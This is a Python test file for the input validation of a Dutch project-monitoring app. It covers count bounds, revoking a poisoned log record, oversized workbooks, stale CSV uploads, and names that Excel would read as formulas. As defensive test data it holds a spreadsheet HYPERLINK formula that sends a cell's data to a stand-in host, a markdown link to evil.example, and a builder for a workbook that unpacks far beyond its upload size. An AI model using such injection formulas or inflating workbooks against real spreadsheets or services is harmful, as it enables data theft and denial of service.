"""The monitor under bad and hostile input (issue 17): bounded counts and targets on every way in, a log
that cannot be poisoned (and a build that survives a bad record already in it, with a way to revoke it),
names that would be formulas, oversized workbooks, and uploads that carry the revision they were based on."""
from __future__ import annotations

import logging

import duckdb
import pytest

from etl.build import build
from etl.monitor import __main__ as cli
from tests.test_monitor import KOP, TWEE_PROJECTEN, VANDAAG, afgewezen, importeer, ingevuld, log_bytes
from werkenaanwerk import invoer, opslag, validatie

BLAD = "monitor.xlsx, blad 'Resultaten'"


# --- bounds on every way in ------------------------------------------------------------------------------

@pytest.mark.parametrize("waarde, stuk", [
    (10**20, "is niet aannemelijk; verwacht een heel getal van 0 tot en met 10.000"),
    ("12345678901234567890", "'12345678901234567890' is veel te groot; verwacht een heel getal van 0 tot en met "
                             "10.000"),
    (10_001, "10.001 is niet aannemelijk"),
    ("2.000", "'2.000' is dubbelzinnig (duizendtal of decimaal?)"),
    ("1e400", "'1e400' is geen heel getal"),
    ("²", "'²' is geen heel getal"),
    ("inf", "'inf' is geen heel getal"),
])
def test_an_implausible_count_in_a_workbook_is_refused_and_nothing_stored(raw_dir, waarde, stuk):
    voor = log_bytes()
    fouten = afgewezen(ingevuld([["Zorgstart", "2024-Q1", 10, waarde, 0, 0, 0, 5]]))
    assert len(fouten) == 1 and fouten[0].startswith(f"{BLAD}, regel 2, kolom 'Gestart': "), fouten
    assert stuk in fouten[0]
    assert log_bytes() == voor


def test_the_upper_bound_itself_is_accepted(raw_dir):
    importeer(ingevuld([["Zorgstart", "2024-Q1", 10_000, 10_000, 0, 0, 0, 10_000]]))
    assert opslag.huidige_resultaten(opslag.lees())[("zorgstart", "2024-Q1")]["gestart"] == 10_000


def test_a_20_digit_count_in_a_csv_and_in_the_table_is_refused(raw_dir):
    kop = ",".join(KOP) + ",Revisie (niet wijzigen)\n"
    fouten = afgewezen((kop + "Zorgstart,2024-Q1,1,99999999999999999999,0,0,0,1,0\n").encode(), "monitor.csv")
    assert fouten == ["monitor.csv, regel 2, kolom 'Gestart': '99999999999999999999' is veel te groot; verwacht een "
                      "heel getal van 0 tot en met 10.000"]
    with pytest.raises(invoer.InvoerFout) as exc:
        invoer.corrigeer("zorgstart", [{"kwartaal": "2024-Q1", "gestart": 1e20}], 0, "Piet", vandaag=VANDAAG)
    assert "is niet aannemelijk" in exc.value.fouten[0].melding
    with pytest.raises(invoer.InvoerFout) as exc:  # openpyxl cannot write inf; the table editor can send it
        invoer.corrigeer("zorgstart", [{"kwartaal": "2024-Q1", "gestart": float("inf")}], 0, "Piet", vandaag=VANDAAG)
    assert exc.value.fouten[0].melding == "'inf' is geen aantal; verwacht een heel getal van 0 tot en met 10.000"
    assert log_bytes() == []


def test_a_20_digit_target_on_the_form_is_refused_and_nothing_stored(raw_dir):
    with pytest.raises(invoer.InvoerFout) as exc:
        invoer.wijzig_project("zorgstart", {"doel_deelnemers": "12345678901234567890", "doel_periode": "per jaar"},
                              "Annette", 0, vandaag=VANDAAG)
    assert [f.tekst() for f in exc.value.fouten] == [
        "projectgegevens, kolom 'doel_deelnemers': '12345678901234567890' is veel te groot; verwacht een heel getal "
        "van 0 tot en met 10.000"]
    assert log_bytes() == []


def test_the_last_check_before_the_log_stops_a_caller_that_skipped_validation(raw_dir):
    with pytest.raises(invoer.InvoerFout) as exc:
        invoer._voor_opslaan([{"soort": "resultaat", "project_id": "zorgstart", "kwartaal": "2024-Q1",
                               "gestart": 10**20}])
    assert "veld 'gestart'" in exc.value.fouten[0].melding
    assert log_bytes() == []


# --- a bad record already in the log ---------------------------------------------------------------------

def _vergiftigd(raw_dir) -> int:
    """Two good saves, then a record with a 20-digit count written into the store by hand (as an older
    version let through), bypassing every check. Returns its volgnummer."""
    importeer(ingevuld(TWEE_PROJECTEN))
    n = opslag.laatste_volgnummer() + 1
    rec = {"soort": "resultaat", "project_id": "zorgstart", "kwartaal": "2024-Q3", "aangemeld": 1,
           "gestart": 12345678901234567890, "uitgevallen": 0, "uitstroom_werk": 0, "uitstroom_opleiding": 0,
           "nog_in_traject": 1, "wijziging": "hand", "volgnummer": n, "tijdstip": "2026-11-20T10:00:00+00:00",
           "door": "Iemand", "via": "met de hand", "revisie": 2}
    with opslag.db().transactie(schrijven=True) as t:
        opslag.schrijf(t, rec)
    return n


def test_a_build_over_a_poisoned_store_reports_the_record_and_still_builds(raw_dir, warehouse_path, caplog):
    n = _vergiftigd(raw_dir)
    with caplog.at_level(logging.WARNING, logger="etl.load"):
        build(raw_dir, warehouse_path)
    gemeld = [r.getMessage() for r in caplog.records]
    assert any(f"monitor.sqlite: record {n} (resultaat, project zorgstart) overgeslagen: veld "
               "'gestart': 12345678901234567890 is niet aannemelijk" in m for m in gemeld), gemeld
    con = duckdb.connect(str(warehouse_path), read_only=True)
    assert con.execute("select count(*) from marts.monitor_resultaten").fetchone() == (4,)
    afgekeurd = con.execute("select melding from marts.monitor_afgekeurd").fetchall()
    assert len(afgekeurd) == 1 and afgekeurd[0][0].startswith(f"record {n} (resultaat, project zorgstart)")
    # the skipped record still counts for the project's revision: the page's next save is not refused
    assert con.execute("select revisie from marts.monitor_projecten where project_id = 'zorgstart'").fetchone() == (2,)
    con.close()
    # and the input side ignores it too: a save on zorgstart based on the revision the page shows works
    invoer.corrigeer("zorgstart", [{"kwartaal": "2024-Q1", "aangemeld": 10, "gestart": 8, "uitgevallen": 1,
                                    "uitstroom_werk": 2, "uitstroom_opleiding": 0, "nog_in_traject": 5},
                                   {"kwartaal": "2024-Q2", "aangemeld": 6, "gestart": 5, "uitgevallen": 0,
                                    "uitstroom_werk": 3, "uitstroom_opleiding": 1, "nog_in_traject": 7}],
                     2, "Piet", vandaag=VANDAAG)


def test_a_bad_record_is_revoked_through_the_cli_and_then_no_longer_reported(raw_dir, warehouse_path, capsys):
    n = _vergiftigd(raw_dir)
    assert cli.main(["log-controleren"]) == 1
    uit = capsys.readouterr().out
    assert f"record {n} (resultaat, project zorgstart) overgeslagen" in uit
    assert f"python -m etl.monitor herroep {n} --door NAAM" in uit
    # a valid record cannot be revoked, an unknown one neither; nothing is stored then
    voor = log_bytes()
    assert cli.main(["herroep", "1", "--door", "Piet"]) == 1
    assert "record 1 is in orde en kan niet worden herroepen" in capsys.readouterr().err
    assert cli.main(["herroep", "999", "--door", "Piet"]) == 1
    assert log_bytes() == voor
    assert cli.main(["herroep", str(n), "--door", "Piet"]) == 0
    assert f"Record {n} (project zorgstart) herroepen" in capsys.readouterr().out
    assert cli.main(["herroep", str(n), "--door", "Piet"]) == 1
    assert "al herroepen" in capsys.readouterr().err
    # the log grew by a revoking record; nothing in it was rewritten
    assert log_bytes()[:len(voor)] == voor
    _, fouten = validatie.controleer_log()
    assert fouten == []
    build(raw_dir, warehouse_path)
    con = duckdb.connect(str(warehouse_path), read_only=True)
    assert con.execute("select count(*) from marts.monitor_afgekeurd").fetchone() == (0,)
    assert con.execute("select count(*) from marts.monitor_resultaten").fetchone() == (4,)
    # the right figure is then entered the ordinary way
    con.close()
    rev = opslag.revisies(opslag.lees())["zorgstart"]
    invoer.corrigeer("zorgstart", [
        {"kwartaal": "2024-Q1", "aangemeld": 10, "gestart": 8, "uitgevallen": 1, "uitstroom_werk": 2,
         "uitstroom_opleiding": 0, "nog_in_traject": 5},
        {"kwartaal": "2024-Q2", "aangemeld": 6, "gestart": 5, "uitgevallen": 0, "uitstroom_werk": 3,
         "uitstroom_opleiding": 1, "nog_in_traject": 6},
        {"kwartaal": "2024-Q3", "aangemeld": 1, "gestart": 1, "uitgevallen": 0, "uitstroom_werk": 0,
         "uitstroom_opleiding": 0, "nog_in_traject": 7}], rev, "Piet", vandaag=VANDAAG)
    build(raw_dir, warehouse_path)
    con = duckdb.connect(str(warehouse_path), read_only=True)
    assert con.execute("select gestart from marts.monitor_resultaten where project_id = 'zorgstart' "
                       "and kwartaal = '2024-Q3'").fetchone() == (1,)


# --- names that would be formulas ------------------------------------------------------------------------

@pytest.mark.parametrize("naam, teken", [('=HYPERLINK("https://x.example?d="&A1,"Zorg")', "'='"),
                                         ("+31 project", "'+'"), ("-project", "'-'"), ("@project", "'@'")])
def test_a_project_name_that_is_a_formula_is_refused(raw_dir, naam, teken):
    with pytest.raises(invoer.InvoerFout) as exc:
        invoer.wijzig_project(None, {"naam": naam, "regio": "AM12"}, "Annette", 0, vandaag=VANDAAG)
    assert [f.tekst() for f in exc.value.fouten] == [
        f"projectgegevens, kolom 'naam': een projectnaam mag niet beginnen met {teken}: in Excel wordt zo'n naam "
        "een formule. Begin de naam met een letter of cijfer"]
    assert log_bytes() == []


# --- oversized workbooks, formulas, the error cap ---------------------------------------------------------

def groot_werkboek(rijen: int, dimensie: bool) -> bytes:
    """The app's template with its Resultaten sheet (sheet1.xml) replaced by `rijen` rows of one number each,
    written as XML directly (openpyxl would take minutes), with or without a <dimension> saying how many."""
    import io
    import zipfile

    kop = "".join(f'<c r="{chr(65 + i)}1" t="inlineStr"><is><t>{k}</t></is></c>' for i, k in enumerate(KOP))
    delen = ['<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">',
             f'<dimension ref="A1:H{rijen + 1}"/>' if dimensie else "", f'<sheetData><row r="1">{kop}</row>',
             "".join(f'<row r="{n}"><c r="D{n}"><v>1</v></c></row>' for n in range(2, rijen + 2)),
             "</sheetData></worksheet>"]
    uit = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(invoer.sjabloon())) as bron, \
            zipfile.ZipFile(uit, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as doel:
        for item in bron.infolist():
            doel.writestr(item.filename, "".join(delen) if item.filename == "xl/worksheets/sheet1.xml"
                          else bron.read(item.filename))
    return uit.getvalue()


METEN = '''
import sys, time
from werkenaanwerk import invoer
inhoud = open(sys.argv[1], "rb").read()
def piek():  # this process's peak RSS in kB (VmHWM: unlike ru_maxrss, not inherited across exec)
    return int(next(r for r in open("/proc/self/status") if r.startswith("VmHWM")).split()[1])
voor = piek()
t = time.perf_counter()
try:
    invoer.importeer("groot.xlsx", inhoud, "Iemand")
except invoer.InvoerFout as exc:
    melding = exc.fouten[0].tekst()
else:
    melding = "NIET GEWEIGERD"
print(time.perf_counter() - t, voor, piek(), melding, sep="\\t")
'''


def _weiger_gemeten(tmp_path, inhoud: bytes) -> tuple[float, float, float, str]:
    """Refuse `inhoud` in a fresh process: (seconds, MB before, MB peak, message)."""
    import os
    import subprocess
    import sys
    from pathlib import Path

    pad = tmp_path / "groot.xlsx"
    pad.write_bytes(inhoud)
    repo = Path(__file__).resolve().parent.parent
    uit = subprocess.run([sys.executable, "-c", METEN, str(pad)], capture_output=True, text=True, check=True,
                         cwd=repo, env={**os.environ, "PYTHONPATH": str(repo)}).stdout.strip().split("\t")
    return float(uit[0]), int(uit[1]) / 1024, int(uit[2]) / 1024, uit[3]


def test_a_2_million_row_workbook_is_refused_within_2_s_and_200_mb(raw_dir, tmp_path):
    inhoud = groot_werkboek(2_000_000, dimensie=False)
    assert len(inhoud) < 10 * 1024 * 1024   # under the upload limit: only the unpacked size gives it away
    seconden, voor, piek, melding = _weiger_gemeten(tmp_path, inhoud)
    print(f"2 miljoen regels, {len(inhoud) / 1e6:.1f} MB: {seconden:.3f} s, RSS {voor:.0f} -> {piek:.0f} MB")
    assert "groot.xlsx: de werkmap is uitgepakt" in melding and "de grens is 50,0 MB" in melding, melding
    assert seconden <= 2.0
    assert piek - voor <= 200
    assert log_bytes() == []


@pytest.mark.parametrize("dimensie", [True, False])
def test_a_sheet_over_10_000_rows_is_refused_before_reading_it_all(raw_dir, tmp_path, dimensie):
    inhoud = groot_werkboek(150_000, dimensie)   # small enough unpacked; too many rows
    seconden, voor, piek, melding = _weiger_gemeten(tmp_path, inhoud)
    print(f"150.000 regels (dimensie: {dimensie}): {seconden:.3f} s, RSS {voor:.0f} -> {piek:.0f} MB")
    assert melding == ("groot.xlsx: een werkblad heeft 150.001 regels; de grens is 10.000 regels met resultaten en "
                       "een kopregel. Lever de resultaten per project en kwartaal aan, zonder andere gegevens.")
    assert seconden <= 2.0 and piek - voor <= 200


def test_exactly_10_000_rows_are_read_and_one_more_is_refused(raw_dir):
    from werkenaanwerk import bestand
    gelezen = bestand.lees("groot.xlsx", groot_werkboek(10_000, dimensie=False))
    assert not gelezen.fouten and len(gelezen.rijen) == 10_000
    assert "een werkblad heeft 10.002 regels" in bestand.lees("groot.xlsx", groot_werkboek(10_001, True)).fouten[0].tekst()


def test_a_formula_is_refused_with_its_cell_and_nothing_computed(raw_dir):
    fouten = afgewezen(ingevuld([["Zorgstart", "2024-Q1", 10, "=4+4", 1, 2, 0, 5]]))
    assert fouten == [f"{BLAD}, regel 2: cel D2 bevat een formule (=4+4); vul de waarde zelf in. Formules worden "
                      "niet uitgerekend en niet opgeslagen"]


def test_after_50_errors_the_rest_are_counted(raw_dir, tmp_path, capsys):
    inhoud = ingevuld([["Zorgstart", f"{2000 + n // 4}-Q{n % 4 + 1}", 1, "x", 0, 0, 0, 1] for n in range(60)])
    with pytest.raises(invoer.InvoerFout) as exc:
        importeer(inhoud)
    assert (exc.value.totaal, len(exc.value.fouten), exc.value.meer) == (60, 50, 10)
    assert exc.value.regels()[-1] == "… en nog 10 fouten (niet getoond)"
    pad = tmp_path / "veel.xlsx"
    pad.write_bytes(inhoud)
    assert cli.main(["import", str(pad), "--door", "Piet", "--controleer"]) == 1
    err = capsys.readouterr().err.splitlines()
    assert err[0] == "Niet ingelezen: 60 fout(en) in veel.xlsx. Er is niets opgeslagen."
    assert len(err) == 52 and err[-1] == "  - … en nog 10 fouten (niet getoond)"
    assert log_bytes() == []


def test_a_csv_over_10_000_lines_is_refused(raw_dir):
    regels = [",".join(KOP + ["Revisie"])] + ["Zorgstart,2024-Q1,1,1,0,0,0,1,0"] * 10_001
    assert afgewezen("\n".join(regels).encode(), "m.csv") == [
        "m.csv: het bestand heeft 10.002 regels; de grens is 10.000 regels met resultaten en een kopregel. Lever de "
        "resultaten per project en kwartaal aan, zonder andere gegevens."]


# --- every upload carries the revision it was based on -------------------------------------------------------

def _csv(rijen: list[list]) -> bytes:
    return "\n".join(";".join(str(v) for v in r) for r in [KOP + ["Revisie (niet wijzigen)"], *rijen]).encode()


def test_a_csv_without_the_revision_column_is_refused(raw_dir):
    regels = [";".join(KOP)] + [";".join(str(v) for v in r) for r in TWEE_PROJECTEN]
    fouten = afgewezen("\n".join(regels).encode(), "m.csv")
    assert fouten[0].startswith("m.csv, regel 1, kolom 'Revisie (niet wijzigen)': deze kolom ontbreekt")


def test_a_csv_prepared_earlier_cannot_undo_a_newer_correction(raw_dir):
    importeer(ingevuld(TWEE_PROJECTEN))
    # editor A saves the template's Resultaten sheet as CSV (each row carries its project's revision) ...
    wb = __import__("openpyxl").load_workbook(__import__("io").BytesIO(invoer.sjabloon()), read_only=True)
    oud = [list(r) for r in wb["Resultaten"].iter_rows(values_only=True)][1:]
    assert {r[-1] for r in oud} == {1}
    # ... editor B then corrects Zorgstart Q1 in the table
    invoer.corrigeer("zorgstart", [
        {"kwartaal": "2024-Q1", "aangemeld": 10, "gestart": 8, "uitgevallen": 1, "uitstroom_werk": 3,
         "uitstroom_opleiding": 0, "nog_in_traject": 4},
        {"kwartaal": "2024-Q2", "aangemeld": 6, "gestart": 5, "uitgevallen": 0, "uitstroom_werk": 3,
         "uitstroom_opleiding": 1, "nog_in_traject": 6}], 1, "Bea", vandaag=VANDAAG)
    voor = log_bytes()
    # A's CSV still has Q1 as it was, and a new Q3: both rows of the stale project are refused as stale
    fouten = afgewezen(_csv(oud + [["Zorgstart", "Q3 2024", 1, 1, 0, 0, 0, 5, ""]]), "a.csv")
    assert [f.split(": ", 1)[0] for f in fouten] == ["a.csv, regel 4, kolom 'Revisie (niet wijzigen)'",
                                                    "a.csv, regel 6, kolom 'Revisie (niet wijzigen)'"], fouten
    assert "verouderd: deze regel gaat uit van revisie 1 van Zorgstart, maar intussen is het revisie 2 (laatst " \
           "gewijzigd door Bea)" in fouten[0]
    assert log_bytes() == voor
    # the other project's rows were unchanged; a row of a changed figure with the current revision is stored
    uitkomst = importeer(_csv([["Zorgstart", "Q3 2024", 1, 1, 0, 0, 0, 5, 2]]), "b.csv")
    assert (uitkomst.nieuw, uitkomst.gecorrigeerd) == (1, 0)
    # a row with a changed figure and no revision anywhere in the file is refused and says where to find it
    fouten = afgewezen(_csv([["Ik in de kinderopvang!", "Q3 2024", 1, 1, 0, 0, 0, 5, ""]]), "c.csv")
    assert fouten == ["c.csv, regel 2, kolom 'Revisie (niet wijzigen)': de revisie van Ik in de kinderopvang! "
                      "ontbreekt; neem die over van het blad Projecten (nu 1) of maak het bestand van een nieuw "
                      "sjabloon"]


# --- on the page ------------------------------------------------------------------------------------------------

def test_the_invoer_page_names_skipped_records_and_a_refused_upload_as_plain_text(raw_dir, warehouse_path):
    from tests.test_monitor_app import _ingelogd, pagina
    n = _vergiftigd(raw_dir)
    build(raw_dir, warehouse_path)
    anoniem = pagina("app_pages/monitor_invoer.py")   # a viewer who is not logged in sees nothing of the log
    assert not any("overgeslagen" in w.value for w in anoniem.warning) and not anoniem.text
    at = _ingelogd()
    waarschuwing = [w.value for w in at.warning if "worden bij het bouwen overgeslagen" in w.value]
    assert waarschuwing and waarschuwing[0].startswith("1 record(s) in de monitoropslag voldoen niet aan de invoerregels")
    overgeslagen = "\n".join(t.value for t in at.text)
    assert f"record {n} (resultaat, project zorgstart) overgeslagen" in overgeslagen
    # a refused upload: the count in the heading, every line as plain text (a name from the file is no link)
    at.get("file_uploader")[0].set_value(("m.xlsx", ingevuld([["[Klik](https://evil.example)", "2024-Q1", 1, 1, 0,
                                                                0, 0, 1]]),
                                          "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"))
    at.run()
    next(b for b in at.button if b.label == "Inlezen").click().run()
    assert not at.exception, [e.message for e in at.exception]
    assert any(e.value.startswith("**Niet opgeslagen: 1 fout.**") for e in at.error)
    regels = [t.value for t in at.text if t.value.startswith("- m.xlsx")]
    assert regels and "onbekend project '[Klik](https://evil.example)'" in regels[0]
    assert not any("evil.example" in m.value for m in [*at.markdown, *at.error])


def test_a_refresh_over_a_poisoned_store_says_so_in_its_last_line_and_on_bronnen(raw_dir, warehouse_path, capsys):
    """Skipped records are told where everyone looks: the refresh's final line and Bronnen en actualiteit
    (the count and what to do; which records, only on the editors' page)."""
    from etl import refresh
    from tests.test_monitor_app import pagina
    _vergiftigd(raw_dir)
    assert refresh.main(["--offline"]) == 0
    laatste = capsys.readouterr().out.strip().splitlines()[-1]
    assert laatste.startswith("Datawarehouse gebouwd: ") and laatste.endswith(
        "; 1 monitorregel overgeslagen, zie python -m etl.monitor log-controleren"), laatste
    at = pagina("app_pages/bronnen.py")
    regels = [w.value for w in at.warning if w.value.startswith("Monitor Werken aan Werk: 1 monitorregel")]
    assert regels == ["Monitor Werken aan Werk: 1 monitorregel overgeslagen, zie `python -m etl.monitor "
                      "log-controleren`. De build ging door zonder die regel; de monitor mist daardoor cijfers. Een "
                      "beheerder herroept een regel met `python -m etl.monitor herroep VOLGNUMMER --door NAAM` en "
                      "voert het juiste cijfer daarna opnieuw in (pagina Invoer monitor)."], regels
    assert "monitor.sqlite" not in "\n".join(w.value for w in at.warning)   # where the store is: editors only
    # revoked: the next refresh's line and Bronnen say nothing of it
    n = opslag.laatste_volgnummer()
    assert cli.main(["herroep", str(n), "--door", "Piet"]) == 0
    capsys.readouterr()
    assert refresh.main(["--offline"]) == 0
    assert "overgeslagen" not in capsys.readouterr().out
    at = pagina("app_pages/bronnen.py")
    assert not [w.value for w in at.warning if "monitorregel" in w.value]
